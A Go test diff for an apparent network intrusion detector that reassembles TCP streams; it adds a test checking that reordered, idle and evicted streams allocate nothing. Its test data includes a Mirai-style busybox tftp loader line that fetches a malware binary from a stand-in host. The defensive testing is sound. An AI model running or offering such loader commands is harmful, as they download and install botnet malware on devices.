@@ -303,6 +303,48 @@ func TestStreamNoAllocs(t *testing.T) {
 	}
 }
 
+// TestStreamNoAllocsReorderedAndIdle: holding a reordered segment and
+// reading it when the gap fills, the short path of a web segment, a late
+// segment joined to a stream's first bytes, and streams ended when idle
+// or pushed out allocate nothing either.
+func TestStreamNoAllocsReorderedAndIdle(t *testing.T) {
+	m := NewMatcher(StaticSet{signatures.Default()}, evidencetest.Discard{}, Options{Streams: 8})
+	line := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; echo ok\r\n"
+	web := "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nAccept: */*\r\n\r\n"
+	var frames [][]byte
+	var gaps []time.Duration
+	add := func(gap time.Duration, s tseg) {
+		frames = append(frames, tcpSeg(t, infected, victim, s))
+		gaps = append(gaps, gap)
+	}
+	for c := range uint16(12) { // more connections than entries: some pushed out
+		p := 3000 + c
+		add(0, tseg{sport: p, dport: 23, seq: 100, payload: "\xff\xfd\x01"})
+		add(0, tseg{sport: p, dport: 23, seq: 123, payload: line[20:]})
+		add(0, tseg{sport: p, dport: 23, seq: 103, payload: line[:20]})
+		add(0, tseg{sport: p + 100, dport: 80, seq: 1, payload: web})
+		add(0, tseg{sport: p + 100, dport: 80, seq: 1 + uint32(len(web)), payload: web})
+		add(0, tseg{sport: p + 200, dport: 23, seq: 520, payload: line[20:]})
+		add(0, tseg{sport: p + 200, dport: 23, seq: 500, payload: line[:20]})
+		add(0, tseg{sport: p + 300, dport: 23, seq: 1, payload: "tftp -g -r firmware.bin 10.0.0.9"})
+	}
+	gaps[0] = 10 * time.Minute // every pass ends the last one's streams as idle
+	at := baseTime
+	m.Packet(layers.LinkTypeEthernet, frames[0], Meta{Time: at})
+	i := 0
+	a := testing.AllocsPerRun(len(frames)*3, func() {
+		at = at.Add(time.Millisecond + gaps[i%len(frames)])
+		m.Packet(layers.LinkTypeEthernet, frames[i%len(frames)], Meta{Time: at})
+		i++
+	})
+	if a > 0 {
+		t.Errorf("%.1f allocations per segment", a)
+	}
+	if st := m.Stats(); st.StreamHeld == 0 || st.StreamEnded == 0 || st.StreamEvicted == 0 || st.Events == 0 {
+		t.Errorf("stats %+v: want segments held, streams ended and pushed out, events", st)
+	}
+}
+
 // TestStreamEndOfCapture: a command still open when the capture file ends
 // (the loader's line is the last thing in it, no separator after) is read
 // as complete there, as its sender's FIN would have it read: an unlisted
@@ -687,9 +729,10 @@ func FuzzStreamSegments(f *testing.F) {
 		// A loader line, cut by the same plan, in order.
 		l := loaderLines[int(plan[1])%len(loaderLines)]
 		var whole, split evidencetest.Recorder
-		NewMatcher(StaticSet{set}, &whole, Options{}).Packet(layers.LinkTypeEthernet,
+		one := Options{Streams: 4} // one stream: a small table, quick to make
+		NewMatcher(StaticSet{set}, &whole, one).Packet(layers.LinkTypeEthernet,
 			tcpSeg(t, infected, victim, tseg{sport: 4001, dport: l.port, seq: 1, payload: l.line}), Meta{Time: baseTime})
-		sm := NewMatcher(StaticSet{set}, &split, Options{})
+		sm := NewMatcher(StaticSet{set}, &split, one)
 		for i, k := 0, 0; k < len(l.line); i++ {
 			size := 1 + int(plan[i%len(plan)])%97
 			sm.Packet(layers.LinkTypeEthernet, tcpSeg(t, infected, victim, tseg{sport: 4001, dport: l.port, seq: 1 + uint32(k),
